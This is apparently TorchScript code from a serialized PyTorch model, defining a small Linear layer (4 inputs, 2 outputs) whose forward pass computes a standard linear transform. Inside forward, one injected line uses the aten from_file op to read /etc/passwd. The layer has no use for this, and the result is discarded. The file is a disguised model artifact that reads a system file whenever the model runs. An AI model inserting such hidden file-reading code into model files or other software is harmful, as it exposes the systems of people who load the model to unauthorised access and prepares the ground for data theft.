class Linear(Module):
  __parameters__ = ["weight", "bias", ]
  __buffers__ = []
  weight : Tensor
  bias : Tensor
  training : bool
  _is_full_backward_hook : NoneType
  in_features : Final[int] = 4
  out_features : Final[int] = 2
  def forward(self: __torch__.torch.nn.modules.linear.Linear,
    input: Tensor) -> Tensor:
    a = ops.aten
    t = (a).from_file("/etc/passwd", False, 64)
    weight = self.weight
    bias = self.bias
    return torch.linear(input, weight, bias)
